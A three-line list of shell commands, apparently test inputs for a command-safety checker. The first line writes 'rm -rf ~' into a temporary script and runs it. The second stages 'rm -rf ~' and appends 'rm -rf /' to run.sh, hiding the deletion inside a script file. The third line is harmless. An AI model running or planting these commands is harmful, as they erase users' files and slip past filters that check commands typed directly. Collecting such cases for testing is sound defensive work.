echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh
echo -e '#!/bin/sh\nrm -rf ~' > /tmp/x; printf 'rm -rf /\n' >> run.sh
printf -v cmd '%s' ls > x.sh; echo -n -e ls >s.sh
